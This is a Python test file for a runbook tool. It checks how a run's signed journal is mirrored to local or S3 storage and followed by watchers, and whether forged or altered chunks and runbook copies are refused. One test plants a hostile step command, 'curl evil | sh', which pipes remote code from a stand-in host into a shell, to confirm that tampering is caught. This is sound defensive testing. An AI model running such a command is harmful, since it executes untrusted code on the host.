"""Watching a run from another host through the repository (issue 18): the driver's process mirrors its journal
into `runs/<run id>/` (signed chunks, a live.json heartbeat) and `RepositoryEventSource` follows it.

Real processes: the driver is `runbook run --headless` in a child process with real commands; the watcher reads
moto's S3 over HTTP (or a local directory) from this process, with its own store objects. The driver killed
(SIGKILL) goes silent with since-when; S3 failing mid-run (a fault proxy in front of moto) leaves the driver's run
unharmed, tells the watcher, and the mirror catches up; forged chunks (unsigned, another key, altered bytes) are
refused and named, none of their events shown; a watcher on an ended run gets the whole journal and "ended".
The run's runbook copy is mirrored too: a watcher through the repository shows the titles and expected durations
a local watcher shows, and refuses (by name) a copy that is not the one run-started hashed.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from runbook.journal import read_journal
from runbook.repository_watch import LIVE_EVERY_S, RepositoryEventSource, open_repository, repository_source
from runbook.watching import WatchedRun, open_local
from steps.mirror.reading import MirrorRefused
from tests.conftest import ROOT, run_cli
from tests.support.s3server import FaultProxy, S3Endpoint, credentials_env, s3_bucket, s3_server  # noqa: F401
from tests.support.signing import make_keys, sign_file, signing_yaml

RUNBOOK = """
version: 1
name: Mirror test
targets: {rto: 2h, rpo: 5m}
target: "db-host:5432/app"
repository: "{{ repository }}"
params:
  repository: {type: path}
  pause: {default: "2"}
steps:
  - id: first
    title: Say the first word
    expect_duration: 3m
    run: "echo first"
    confirm: none
  - id: middle
    title: Wait in the middle
    expect_duration: 1h
    run: "sleep {{ pause }}; echo middle"
    confirm: none
  - id: last
    run: "echo last"
    confirm: none
"""
TITLES = ["Say the first word", "Wait in the middle", "last"]


def write_setup(tmp_path: Path, *, local: bool, s3_url: str | None, bucket: str | None, extra: str = "") -> tuple[Path, Path]:
    cfg = tmp_path / "repository.yaml"
    text = "version: 1\n"
    if local:
        text += f"local: {{path: {tmp_path / 'repo'}}}\n"
    if s3_url:
        text += f"s3: {{bucket: {bucket}, endpoint_url: '{s3_url}', region: us-east-1, max_attempts: 1, " \
                f"connect_timeout_s: 2, read_timeout_s: 5{extra}}}\n"
    cfg.write_text(text + signing_yaml())
    rb = tmp_path / "runbook.yaml"
    rb.write_text(textwrap.dedent(RUNBOOK).lstrip())
    return rb, cfg


def start_driver(rb: Path, cfg: Path, state: Path, *more: str) -> subprocess.Popen[str]:
    env = {**os.environ, **credentials_env(), "NO_COLOR": "1", "COLUMNS": "120"}
    return subprocess.Popen(
        [sys.executable, "-m", "runbook", "run", str(rb), "--headless", "--yes", "--mode", "drill",
         "--set", f"repository={cfg}", "--state-dir", str(state), *more],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT, env=env, start_new_session=True)


def run_id_of(state: Path, timeout: float = 30) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        runs = [p for p in (state / "runs").glob("*") if (p / "journal.jsonl").exists()] if (state / "runs").exists() else []
        if runs:
            return runs[0].name
        time.sleep(0.1)
    raise AssertionError("the driver opened no run")


def follow(src: RepositoryEventSource, until: Callable[[list[dict[str, Any]]], bool], timeout: float = 60,
           every: float = 0.3) -> list[dict[str, Any]]:
    got: list[dict[str, Any]] = []
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        got += src.poll()
        if until(got):
            return got
        time.sleep(every)
    raise AssertionError(f"timed out; got {[e['type'] for e in got]}; status {src.status()}")


def journal(state: Path, run_id: str) -> list[dict[str, Any]]:
    return read_journal(state / "runs" / run_id / "journal.jsonl").events


@pytest.mark.parametrize("where", ["local", "s3"])
def test_a_driven_run_is_followed_event_by_event_and_ends(where: str, tmp_path: Path, s3_server: S3Endpoint,  # noqa: F811
                                                          s3_bucket: str) -> None:  # noqa: F811
    rb, cfg = write_setup(tmp_path, local=where == "local", s3_url=s3_server.url if where == "s3" else None,
                          bucket=s3_bucket)
    state = tmp_path / "state"
    driver = start_driver(rb, cfg, state, "--set", "pause=4")
    try:
        run_id = run_id_of(state)
        src = repository_source(cfg, run_id)
        # the middle step is seen running while the driver is still at it
        seen = follow(src, lambda got: any(e["type"] == "step-started" and e.get("step") == "middle" for e in got))
        assert driver.poll() is None, "the watcher saw the middle step only after the driver had finished"
        st = src.status()
        assert not st.ended and st.silent_s is None and st.last_heard is not None
        seen += follow(src, lambda got: src.status().ended, timeout=60)
        out, err = driver.communicate(timeout=60)
    finally:
        if driver.poll() is None:
            driver.kill()
    assert driver.returncode == 0, out + err
    assert seen == journal(state, run_id)  # every event, in order, exactly as the journal holds it
    assert [e["seq"] for e in seen] == list(range(1, len(seen) + 1))
    assert seen[-1]["type"] == "run-finished" and src.status().ended
    # a watcher that comes after the end gets the whole journal at once, and "ended"
    late = repository_source(cfg, run_id)
    assert late.poll() == seen
    assert late.status().ended and late.status().silent_s is None
    live = src.live
    assert live is not None and live.state == "ended" and live.last_seq == len(seen)


def test_the_driver_killed_goes_silent_with_since_when(tmp_path: Path, s3_server: S3Endpoint,  # noqa: F811
                                                      s3_bucket: str) -> None:  # noqa: F811
    rb, cfg = write_setup(tmp_path, local=False, s3_url=s3_server.url, bucket=s3_bucket)
    state = tmp_path / "state"
    driver = start_driver(rb, cfg, state, "--set", "pause=120")
    pgid = None
    try:
        run_id = run_id_of(state)
        src = repository_source(cfg, run_id, silent_after_s=6)
        got = follow(src, lambda got: any(e["type"] == "step-started" and e.get("step") == "middle" for e in got))
        pgid = next(e["pgid"] for e in got if e["type"] == "step-started" and e.get("step") == "middle")
        follow(src, lambda _: src.live is not None)
        assert src.status().silent_s is None
        s3 = s3_server.client()
        old = {k: s3.get_object(Bucket=s3_bucket, Key=f"runs/{run_id}/{k}")["Body"].read()
               for k in ("live.json", "live.json.sig")}  # a genuine heartbeat, kept by someone who can write the bucket
        follow(src, lambda _: src.live is not None and src.live.raw != old["live.json"])  # a later one came
        os.kill(driver.pid, signal.SIGKILL)  # the driver's host dies: no final chunk, no last heartbeat
        driver.wait(10)
        killed_at = time.time()
        follow(src, lambda _: src.status().silent_s is not None, timeout=40, every=0.5)
        st = src.status()
        for k, data in old.items():  # put back: an older genuine heartbeat is no sign of life
            s3.put_object(Bucket=s3_bucket, Key=f"runs/{run_id}/{k}", Body=data)
        time.sleep(LIVE_EVERY_S + 0.5)
        src.poll()
        assert src.status().silent_s is not None
    finally:
        if driver.poll() is None:
            driver.kill()
        if pgid:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(pgid, signal.SIGKILL)  # the step's supervisor outlives its driver, as it should
    assert not st.ended
    assert st.last_heard is not None and st.last_heard.timestamp() <= killed_at
    assert st.silent_s is not None and st.silent_s >= 6
    assert f"went silent at {st.last_heard.astimezone():%H:%M:%S}" in st.note


def test_s3_failing_mid_run_leaves_the_driver_unharmed_and_the_watcher_catches_up(
        tmp_path: Path, s3_server: S3Endpoint, s3_bucket: str) -> None:  # noqa: F811
    down = {"on": False}
    with FaultProxy(("127.0.0.1", s3_server.port), fail=lambda m, p: down["on"]) as proxy:
        rb, cfg = write_setup(tmp_path, local=False, s3_url=proxy.url, bucket=s3_bucket)
        # the watcher reads S3 itself (its own path to moto): only the driver's writes fail
        wcfg = tmp_path / "watcher.yaml"
        wcfg.write_text(cfg.read_text().replace(proxy.url, s3_server.url))
        state = tmp_path / "state"
        driver = start_driver(rb, cfg, state, "--set", "pause=12")
        try:
            run_id = run_id_of(state)
            src = repository_source(wcfg, run_id)
            seen = follow(src, lambda got: any(e["type"] == "step-started" and e.get("step") == "middle" for e in got))
            down["on"] = True
            time.sleep(5)
            assert driver.poll() is None
            down["on"] = False
            out, err = driver.communicate(timeout=90)
            assert driver.returncode == 0, out + err
            assert (out + err).count("watchers through the repository are behind since") == 1, out + err  # once
            seen += follow(src, lambda _: src.status().ended, timeout=60)
        finally:
            if driver.poll() is None:
                driver.kill()
    events = journal(state, run_id)
    assert events[-1]["type"] == "run-finished" and events[-1]["status"] == "completed"
    warnings = [e["text"] for e in events if e["type"] == "warning"]
    assert any("watchers through the repository are behind since" in w for w in warnings), warnings
    assert any("caught up" in w for w in warnings), warnings
    assert seen == events


def test_the_watcher_is_told_when_it_cannot_read_the_repository(tmp_path: Path, s3_server: S3Endpoint,  # noqa: F811
                                                                s3_bucket: str) -> None:  # noqa: F811
    down = {"on": False}
    with FaultProxy(("127.0.0.1", s3_server.port), fail=lambda m, p: down["on"]) as proxy:
        rb, cfg = write_setup(tmp_path, local=False, s3_url=s3_server.url, bucket=s3_bucket)
        r = run_cli("run", str(rb), "--headless", "--yes", "--mode", "drill", "--set", f"repository={cfg}",
                    "--set", "pause=0", "--state-dir", str(tmp_path / "state"), env=credentials_env(), timeout=90)
        assert r.returncode == 0, r.stdout + r.stderr
        run_id = run_id_of(tmp_path / "state")
        wcfg = tmp_path / "watcher.yaml"
        wcfg.write_text(cfg.read_text().replace(s3_server.url, proxy.url))
        src = repository_source(wcfg, run_id)
        down["on"] = True
        assert src.poll() == []
        st = src.status()
        assert "the repository is unreachable since" in st.note and "the view is behind" in st.note
        down["on"] = False
        assert src.poll() == journal(tmp_path / "state", run_id)
        assert "unreachable" not in src.status().note and src.status().ended


def _ended_local_run(tmp_path: Path) -> tuple[Path, Path, str]:
    rb, cfg = write_setup(tmp_path, local=True, s3_url=None, bucket=None)
    r = run_cli("run", str(rb), "--headless", "--yes", "--mode", "drill", "--set", f"repository={cfg}",
                "--set", "pause=3", "--state-dir", str(tmp_path / "state"), timeout=90)  # chunks before and after
    assert r.returncode == 0, r.stdout + r.stderr
    run_id = run_id_of(tmp_path / "state")
    return cfg, tmp_path / "repo" / "runs" / run_id / "journal", run_id


@pytest.mark.parametrize("forgery", ["unsigned", "another key", "altered", "replaced by a signed copy elsewhere"])
def test_a_forged_chunk_is_refused_and_named(forgery: str, tmp_path: Path) -> None:
    cfg, chunks, run_id = _ended_local_run(tmp_path)
    first = sorted(chunks.glob("*.jsonl"))[0]
    key = f"runs/{run_id}/journal/{first.name}"
    sig = first.with_name(first.name + ".sig")
    if forgery == "unsigned":
        sig.unlink()
        reason = "unsigned"
    elif forgery == "another key":
        other, _ = make_keys(tmp_path, "attacker")
        from tests.support.signing import signature

        sig.write_bytes(signature(key, first.read_bytes(), other))
        reason = "which this host does not trust"
    elif forgery == "altered":
        first.write_bytes(first.read_bytes().replace(b'"first"', b'"owned"', 1))
        reason = "bytes changed after"
    else:  # a genuine chunk of this run moved under the first chunk's name
        second = sorted(chunks.glob("*.jsonl"))[1]
        first.write_bytes(second.read_bytes())
        sig.write_bytes(second.with_name(second.name + ".sig").read_bytes())
        reason = "not for"
    src = repository_source(cfg, run_id)
    with pytest.raises(MirrorRefused) as refused:  # nothing of the forged chunk, nor anything after it
        src.poll()
    assert key in refused.value.message and reason in refused.value.message and "refused" in refused.value.message
    assert refused.value.message in src.status().note and not src.status().ended
    with pytest.raises(MirrorRefused):
        src.poll()  # and it stays refused
    r = run_cli("watch", "-c", str(cfg), run_id, "--headless", timeout=60)
    assert r.returncode == 3 and key in r.stderr and reason in r.stderr and "Traceback" not in r.stderr
    assert "step-started" not in r.stdout and "started: attempt" not in r.stdout


def test_a_missing_chunk_is_said_and_nothing_after_it_is_shown(tmp_path: Path) -> None:
    cfg, chunks, run_id = _ended_local_run(tmp_path)
    files = sorted(chunks.glob("*.jsonl"))
    assert len(files) >= 2
    gone = files[1]  # the second chunk: with more after it, a gap in the numbers; as the last, live.json counts it
    gone.unlink()
    gone.with_name(gone.name + ".sig").unlink()
    src = repository_source(cfg, run_id)
    events = src.poll()
    assert events == journal(tmp_path / "state", run_id)[: int(files[0].name.split("-")[2].split(".")[0])]
    with pytest.raises(MirrorRefused) as refused:
        src.poll()
    assert f"chunk {gone.name.split('-')[0]} of run {run_id} is missing" in refused.value.message
    assert refused.value.message in src.status().note and not src.status().ended


def test_a_summary_reader_ignores_the_mirror(tmp_path: Path) -> None:
    from steps.repository.config import load_repository_config
    from steps.repository.configured import open_stores
    from steps.repository.run_summaries import read_summaries
    from steps.repository.signing import trust_from_config

    cfg_path, _, run_id = _ended_local_run(tmp_path)
    cfg, _ = load_repository_config(cfg_path)
    refused: list[str] = []
    runs = read_summaries(open_stores(cfg), trust_from_config(cfg), refused)
    assert [r.run_id for r in runs] == [run_id] and refused == []
    assert json.loads((tmp_path / "repo" / "runs" / run_id / "live.json").read_text())["state"] == "ended"


def test_watch_c_headless_prints_the_run_through_the_repository(tmp_path: Path) -> None:
    cfg, _, run_id = _ended_local_run(tmp_path)
    r = run_cli("watch", "-c", str(cfg), run_id, "--headless", timeout=60)
    assert r.returncode == 0, r.stdout + r.stderr
    assert f"watching run {run_id} via local repository" in r.stdout
    assert "2/3 middle  finished: succeeded" in r.stdout and "-- the run has ended: completed" in r.stdout
    bad = run_cli("watch", "-c", str(cfg), "../runs", "--headless", timeout=60)
    assert bad.returncode == 3 and "'../runs' is not a run id" in bad.stderr and "Traceback" not in bad.stderr


def test_a_repository_that_encrypts_gets_encrypted_chunks_only_an_identity_opens(
        tmp_path: Path, s3_server: S3Endpoint, s3_bucket: str) -> None:  # noqa: F811
    from steps.crypto.age import new_identity

    ident = new_identity("test")
    key_file = tmp_path / "keys" / "watcher.agekey"
    key_file.parent.mkdir(exist_ok=True)
    key_file.write_text(ident.text() + "\n")
    key_file.chmod(0o600)
    rb, cfg = write_setup(tmp_path, local=True, s3_url=s3_server.url, bucket=s3_bucket)
    text = cfg.read_text().replace(f"local: {{path: {tmp_path / 'repo'}}}",
                                   f"local: {{path: {tmp_path / 'repo'}, encrypt: true}}")
    cfg.write_text(text + f"encryption: {{recipients: [{ident.recipient}]}}\n"  # the driver: a recipient, no identity
                   f"backup: {{state_dir: {tmp_path / 'driver-state'}}}\n")
    state = tmp_path / "state"
    driver = start_driver(rb, cfg, state, "--set", "pause=3")
    out, err = driver.communicate(timeout=90)
    assert driver.returncode == 0, out + err
    run_id = run_id_of(state)
    events = journal(state, run_id)
    s3 = s3_server.client()
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket=s3_bucket, Prefix=f"runs/{run_id}/journal/")["Contents"]]
    chunks = [k for k in keys if not k.endswith(".sig")]
    assert len(chunks) >= 2 and all(k.endswith(".jsonl.age") for k in chunks), keys
    local = sorted((tmp_path / "repo" / "runs" / run_id / "journal").glob("*.jsonl.age"))
    assert len(local) >= 2 and not list((tmp_path / "repo" / "runs" / run_id / "journal").glob("*.jsonl"))
    for data in [s3.get_object(Bucket=s3_bucket, Key=k)["Body"].read() for k in chunks] + [p.read_bytes() for p in local]:
        assert data.startswith(b"age-encryption.org/v1") and b"run-started" not in data and b"middle" not in data
    # the runbook copy too: sealed like the chunks, to the same epoch, nothing of it in clear
    epoch = chunks[0].rsplit("/", 1)[-1].split(".")[1]  # each repository its own epoch, the chunks' one
    local_epoch = local[0].name.split(".")[1]
    sealed = [s3.get_object(Bucket=s3_bucket, Key=f"runs/{run_id}/runbook.{epoch}.yaml.age")["Body"].read(),
              (tmp_path / "repo" / "runs" / run_id / f"runbook.{local_epoch}.yaml.age").read_bytes()]
    assert not (tmp_path / "repo" / "runs" / run_id / "runbook.yaml").exists()
    for data in sealed:
        assert data.startswith(b"age-encryption.org/v1") and b"Wait in the middle" not in data
    # a watcher holding an identity of the recipients reads every event, from either repository
    for only in ("local", "s3"):
        wcfg = tmp_path / f"watcher-{only}.yaml"
        lines = [ln for ln in cfg.read_text().splitlines() if not ln.startswith("s3:" if only == "local" else "local:")]
        wcfg.write_text("\n".join(lines).replace("encryption: {", f"encryption: {{identity_files: [{key_file}], ")
                        + "\n")
        src = repository_source(wcfg, run_id)
        assert src.poll() == events and src.status().ended, only
        view = open_repository(wcfg, run_id)
        view.update()
        assert _titles(view) == TITLES and not view.last_status.note, (only, view.last_status.note)
    # one without: told which key would open it, nothing shown
    bare = tmp_path / "watcher-bare.yaml"
    bare.write_text(cfg.read_text())
    r = run_cli("watch", "-c", str(bare), run_id, "--headless", env=credentials_env(), timeout=60)
    assert r.returncode == 3 and "encryption.identity_files" in r.stderr and "Traceback" not in r.stderr, r.stderr
    assert "started: attempt" not in r.stdout

def test_a_detached_run_resumed_goes_on_in_the_same_mirror(tmp_path: Path) -> None:
    rb, cfg = write_setup(tmp_path, local=True, s3_url=None, bucket=None)
    rb.write_text(rb.read_text().replace('run: "sleep {{ pause }}; echo middle"\n    confirm: none',
                                         'run: "echo middle"\n    confirm: {typed: go}'))
    state = tmp_path / "state"
    args = ("--headless", "--yes", "--state-dir", str(state))
    first = run_cli("run", str(rb), "--mode", "drill", "--set", f"repository={cfg}", *args, timeout=90)
    assert first.returncode != 0  # headless, no --confirm: the run stops at the typed confirmation, open
    run_id = run_id_of(state)
    src = repository_source(cfg, run_id)
    before = src.poll()
    st = src.status()
    assert before[-1]["type"] == "run-detached" and not st.ended
    assert "detached at" in st.note and st.silent_s is not None and src.live and src.live.state == "detached"
    chunks = sorted(p.name for p in (tmp_path / "repo" / "runs" / run_id / "journal").glob("*.jsonl"))
    second = run_cli("resume", run_id, "--confirm", "middle=go", *args, timeout=90)
    assert second.returncode == 0, second.stdout + second.stderr
    after = follow(src, lambda got: src.status().ended)
    assert before + after == journal(state, run_id) and after[-1]["status"] == "completed"
    now = sorted(p.name for p in (tmp_path / "repo" / "runs" / run_id / "journal").glob("*.jsonl"))
    assert now[: len(chunks)] == chunks and len(now) > len(chunks)  # numbering went on after the first driver's
    # the resumed run goes on with the run's one copy of its runbook: still verified, titles shown
    assert sorted(p.name for p in (tmp_path / "repo" / "runs" / run_id).glob("runbook*")) == [
        "runbook.yaml", "runbook.yaml.sig"]
    view = open_repository(cfg, run_id)
    view.update()
    assert _titles(view) == TITLES and view.last_status.ended and not view.last_status.note


def test_a_driver_without_a_signing_key_mirrors_unsigned_read_only_with_allow_unsigned(tmp_path: Path) -> None:
    rb, cfg = write_setup(tmp_path, local=True, s3_url=None, bucket=None)
    _, pub = make_keys()
    cfg.write_text(cfg.read_text().split("signing:")[0] + signing_yaml(private=False, trusted=[pub]))
    r = run_cli("run", str(rb), "--headless", "--yes", "--mode", "drill", "--set", f"repository={cfg}",
                "--set", "pause=0", "--state-dir", str(tmp_path / "state"), timeout=90)
    assert r.returncode == 0, r.stdout + r.stderr
    run_id = run_id_of(tmp_path / "state")
    events = journal(tmp_path / "state", run_id)
    assert any("the journal's mirror is written unsigned" in e.get("text", "") for e in events if e["type"] == "warning")
    assert not list((tmp_path / "repo" / "runs" / run_id / "journal").glob("*.sig"))
    with pytest.raises(MirrorRefused, match="unsigned"):
        repository_source(cfg, run_id).poll()
    assert repository_source(cfg, run_id, allow_unsigned=True).poll() == events
    w = run_cli("watch", "-c", str(cfg), run_id, "--headless", "--allow-unsigned", timeout=60)
    assert w.returncode == 0 and "-- the run has ended: completed" in w.stdout, w.stdout + w.stderr


def _titles(view: WatchedRun) -> list[str]:
    return [view.ctx.runbook.step(sid).display_title for sid in view.steps]


@pytest.mark.parametrize("where", ["local", "s3"])
def test_a_watcher_through_the_repository_shows_the_runbook_titles_and_durations(
        where: str, tmp_path: Path, s3_server: S3Endpoint, s3_bucket: str) -> None:  # noqa: F811
    rb, cfg = write_setup(tmp_path, local=where == "local", s3_url=s3_server.url if where == "s3" else None,
                          bucket=s3_bucket)
    state = tmp_path / "state"
    r = run_cli("run", str(rb), "--headless", "--yes", "--mode", "drill", "--set", f"repository={cfg}",
                "--set", "pause=0", "--state-dir", str(state), env=credentials_env(), timeout=90)
    assert r.returncode == 0, r.stdout + r.stderr
    run_id = run_id_of(state)
    copy = (state / "runs" / run_id / "runbook.yaml").read_bytes()
    key = f"runs/{run_id}/runbook.yaml"
    if where == "local":
        stored = (tmp_path / "repo" / key).read_bytes()
        assert (tmp_path / "repo" / (key + ".sig")).is_file()
    else:
        s3 = s3_server.client()
        stored = s3.get_object(Bucket=s3_bucket, Key=key)["Body"].read()
        s3.head_object(Bucket=s3_bucket, Key=key + ".sig")
    assert stored == copy
    remote, local = open_repository(cfg, run_id), open_local(state, run_id)
    remote.update()
    local.update()
    assert _titles(remote) == _titles(local) == TITLES
    assert remote.ctx.expected == local.ctx.expected == {"first": 180.0, "middle": 3600.0}
    assert "runbook" not in remote.last_status.note
    # the --headless follower: the same step lines, titles and expected durations in, through either way
    lines = {}
    for how in ("remote", "local"):
        w = run_cli("watch", *(("-c", str(cfg)) if how == "remote" else ("--state-dir", str(state))), run_id,
                    "--headless", env=credentials_env(), timeout=60)
        assert w.returncode == 0, w.stdout + w.stderr
        lines[how] = [ln for ln in w.stdout.splitlines() if " started: " in ln]
    assert lines["remote"] == lines["local"] and len(lines["remote"]) == 3
    assert "1/3 first  started: attempt 1  [Say the first word · expected 0:03:00]" in lines["remote"][0]


async def test_the_cockpit_through_the_repository_shows_the_titles_while_the_run_goes_on(
        tmp_path: Path, s3_server: S3Endpoint, s3_bucket: str) -> None:  # noqa: F811
    from textual.widgets import Static

    from runbook.tui.watch_screen import WatchApp, WatchScreen
    from tests.tui.conftest import until

    rb, cfg = write_setup(tmp_path, local=False, s3_url=s3_server.url, bucket=s3_bucket)
    state = tmp_path / "state"
    driver = start_driver(rb, cfg, state, "--set", "pause=60")
    pgid = None
    try:
        run_id = run_id_of(state)
        app = WatchApp(open_repository(cfg, run_id), poll_s=0.2)
        async with app.run_test(size=(120, 30)) as pilot:
            await until(pilot, lambda: isinstance(app.screen, WatchScreen) and app.screen.running == "middle",
                        timeout=60)
            shown = str(app.screen.query_one("#steps", Static).content)
            assert "Wait in the middle" in shown and "Say the first word" in shown, shown
            view = app.screen.view
            pgid = next(e["pgid"] for e in view.state.events
                        if e["type"] == "step-started" and e.get("step") == "middle")
            # the projection a local watcher shows: the same expected durations left
            local = open_local(state, run_id)
            local.update()
            mine, theirs = view.clock_status(), local.clock_status()
            assert mine.projected_s is not None and theirs.projected_s is not None
            assert mine.projected_s - mine.elapsed_s == pytest.approx(theirs.projected_s - theirs.elapsed_s, abs=2)
            assert mine.unknown_steps == theirs.unknown_steps == 1
    finally:
        if driver.poll() is None:
            driver.kill()
            driver.wait(10)
        if pgid:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(pgid, signal.SIGKILL)


@pytest.mark.parametrize("forgery", ["another runbook, signed with a trusted key", "altered", "unsigned"])
def test_a_replaced_runbook_copy_is_refused_and_named(forgery: str, tmp_path: Path) -> None:
    cfg, _, run_id = _ended_local_run(tmp_path)
    repo = tmp_path / "repo"
    key = f"runs/{run_id}/runbook.yaml"
    path = repo / key
    hostile = path.read_bytes().replace(b'run: "echo last"', b'run: "curl evil | sh"').replace(
        b"Wait in the middle", b"All is fine, skip the checks")
    if forgery == "another runbook, signed with a trusted key":
        path.write_bytes(hostile)
        sign_file(repo, key)
        reason = "the run's journal records"
    elif forgery == "altered":
        path.write_bytes(hostile)
        reason = "bytes changed after"
    else:
        (repo / (key + ".sig")).unlink()
        reason = "unsigned"
    view = open_repository(cfg, run_id)
    events = view.update()
    assert events == journal(tmp_path / "state", run_id)  # the journal is genuine: followed, steps by their ids
    assert _titles(view) == ["first", "middle", "last"] and view.ctx.expected == {}
    note = view.last_status.note
    assert key in note and reason in note and "refused" in note and "steps are shown by their ids" in note, note
    w = run_cli("watch", "-c", str(cfg), run_id, "--headless", timeout=60)
    assert w.returncode == 0 and "Traceback" not in w.stderr, w.stdout + w.stderr
    assert key in w.stdout and reason in w.stdout
    assert "All is fine" not in w.stdout and "Wait in the middle" not in w.stdout and "expected" not in w.stdout
